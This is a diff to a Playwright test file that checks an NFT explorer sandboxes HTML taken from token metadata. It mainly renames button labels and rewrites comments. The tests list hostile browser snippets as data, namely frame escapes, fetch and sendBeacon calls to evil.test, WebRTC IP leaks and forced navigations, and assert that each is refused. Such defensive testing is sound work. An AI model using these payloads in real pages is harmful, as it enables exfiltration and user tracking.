@@ -8,7 +8,7 @@ import { at, chain } from './pages'
 test.use({ tolerates: 'refused attacks' })
 
 const path = `/${chain}/token/${at.charts}/instance/7`
-const overview = (page: Page) => page.getByRole('region', { name: 'Overview of the NFT' })
+const overview = (page: Page) => page.getByRole('region', { name: 'Overview' })
 
 function publish(faults: FaultServer, animation_url: string): void {
   faults.on(new RegExp(`/tokens/${at.charts}/instances/7$`, 'i'), async ({ real }) =>
@@ -16,7 +16,7 @@ function publish(faults: FaultServer, animation_url: string): void {
   )
 }
 
-/** Ways out of the frame, into the explorer and to its reader. */
+/** Ways out of the frame and into the explorer. */
 const escapes = [
   'top.location = "https://evil.test/top"',
   'parent.location = "https://evil.test/parent"',
@@ -35,7 +35,7 @@ const escapes = [
   'Object.assign(document.createElement("a"), {href: "data:,x", download: "x.exe"}).click()',
 ]
 
-/** Ways to tell somebody something. */
+/** Ways to send data to another host. */
 const calls = [
   'fetch("https://evil.test/fetch")',
   'navigator.sendBeacon("https://evil.test/beacon", "x")',
@@ -59,24 +59,24 @@ const calls = [
   'document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))',
 ]
 
-/** Ways to tell another browser something, from which it learns where the reader is. */
+/** Ways to reach another browser, which would reveal the IP address. */
 const connections = ['new RTCPeerConnection()', 'new webkitRTCPeerConnection()', 'self["RTC" + "DataChannel"].name']
 
-/** Ways to lead the frame itself elsewhere. */
+/** Ways to navigate the frame itself. */
 const departures = [
   'Object.assign(document.createElement("a"), {href: "https://evil.test/a", ping: "https://evil.test/ping"}).click()',
   'location = "https://evil.test/location"',
   'document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=https://evil.test/refresh"}))',
 ]
 
-/** A page that tries them, and then says what became of them. */
+/** A page that tries them, and shows which ran and which were refused. */
 const program = (attempts: readonly string[]) => `<body><p id="out"></p><script>
   const outcome = ['origin ' + origin, 'referrer ' + JSON.stringify(document.referrer)]
   ${attempts.map((attempt) => `try { ${attempt}; outcome.push('ran') } catch { outcome.push('refused') }`).join('\n')}
   out.textContent = outcome.join(', ')
 </script>`
 
-/** Everything that must not happen, noted as it happens; what hosts are asked is noted apart. */
+/** Everything that must not happen, and separately the requests to other hosts. */
 async function watch(page: Page, html: string) {
   const happened: string[] = []
   const asked: string[] = []
@@ -98,7 +98,7 @@ async function watch(page: Page, html: string) {
 async function expectUntouched(page: Page, site: string): Promise<void> {
   await expect(page).toHaveTitle('Seven · Meridian · Astrolabe')
   await expect(page).toHaveURL(site + path)
-  await expect(overview(page).getByRole('button', { name: 'Back to the picture' })).toBeVisible()
+  await expect(overview(page).getByRole('button', { name: 'Show image' })).toBeVisible()
 }
 
 test('one that is written into the metadata can call no other browser, and is laid out as it asks', async ({
@@ -108,7 +108,7 @@ test('one that is written into the metadata can call no other browser, and is la
   const html = `<!doctype html>${program([...connections, 'if (document.compatMode === "BackCompat") throw 0'])}`
   publish(faults, `data:text/html,${encodeURIComponent(html)}`)
   await page.goto(faults.site + path)
-  await overview(page).getByRole('button', { name: 'Run its page' }).click()
+  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
   const inner = page.locator('iframe').contentFrame().locator('iframe').contentFrame()
   await expect(inner.locator('#out')).toHaveText('origin null, referrer "", refused, refused, refused, ran')
 })
@@ -117,7 +117,7 @@ test('one that is written into the metadata can call no other browser, and is la
 async function run(page: Page, faults: FaultServer & { site: string }, html: string) {
   publish(faults, `data:text/html,${encodeURIComponent(html)}`)
   await page.goto(faults.site + path)
-  await overview(page).getByRole('button', { name: 'Run its page' }).click()
+  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
   return page.locator('iframe').contentFrame().locator('iframe').contentFrame()
 }
 
@@ -192,13 +192,13 @@ test('one that somebody hosts reaches neither the explorer nor its reader', asyn
   const { happened, asked } = await watch(page, program(escapes))
   publish(faults, 'https://a.test/art')
   await page.goto(faults.site + path)
-  await expect(overview(page).getByText('runs apart from the explorer')).toBeVisible()
+  await expect(overview(page).getByText('runs in a sandbox')).toBeVisible()
   expect(asked).toEqual([])
-  await overview(page).getByRole('button', { name: 'Run its page' }).click()
+  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
   const frame = page.locator('iframe')
   await expect(frame.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
   await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
-  // How large it is, and then it.
+  // First its size, then the page.
   expect(asked).toEqual(['HEAD https://a.test/art', 'GET https://a.test/art'])
   expect(happened).toEqual([])
   await expectUntouched(page, faults.site)
@@ -212,19 +212,19 @@ for (const [form, encode] of [
     const { happened, asked } = await watch(page, '')
     publish(faults, encode(program([...escapes, ...calls])))
     await page.goto(faults.site + path)
-    await expect(overview(page).getByText('It is part of the metadata.')).toBeVisible()
+    await expect(overview(page).getByText('Embedded in the metadata.')).toBeVisible()
     await page.waitForLoadState('networkidle')
     expect(page.frames()).toHaveLength(1)
-    await overview(page).getByRole('button', { name: 'Run its page' }).click()
+    await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
     const inner = page.locator('iframe').contentFrame().locator('iframe')
     await expect(inner.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
     for (const frame of [page.locator('iframe'), inner]) await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
-    // What was asked before this one has been heard of. The network may never be idle for what a policy refused midway.
+    // All earlier requests have been seen. The network may never become idle after a policy blocked a request midway.
     await page.evaluate(() => fetch('/config.json').then((answer) => answer.text()))
     for (const departure of departures) {
       publish(faults, encode(`<body><script>${departure}</script>`))
       await page.goto(faults.site + path)
-      await overview(page).getByRole('button', { name: 'Run its page' }).click()
+      await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
       await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
     }
     expect(asked).toEqual([])
@@ -233,7 +233,7 @@ for (const [form, encode] of [
   })
 
 test('where the site’s server lets no frame of its own run, that is told', async ({ page, faults }) => {
-  // As hosts do that add what is said of all files to what is said of these.
+  // As hosts do that send the policy of all files for these files, too.
   await page.route('**/frames/page.html', async (route) => {
     const response = await route.fetch()
     const headers = { ...response.headers(), 'content-security-policy': "default-src 'none'; script-src 'self'" }
@@ -241,9 +241,9 @@ test('where the site’s server lets no frame of its own run, that is told', asy
   })
   publish(faults, 'data:text/html,<p>here')
   await page.goto(faults.site + path)
-  await overview(page).getByRole('button', { name: 'Run its page' }).click()
-  await expect(overview(page).getByText('or this site’s server forbids it')).toBeVisible({ timeout: 15_000 })
+  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
+  await expect(overview(page).getByText('Couldn’t run the HTML page')).toBeVisible({ timeout: 15_000 })
   await page.unrouteAll()
-  await overview(page).getByRole('button', { name: 'Try again' }).click()
+  await overview(page).getByRole('button', { name: 'Retry' }).click()
   await expect(page.locator('iframe').contentFrame().locator('iframe').contentFrame().getByText('here')).toBeVisible()
 })
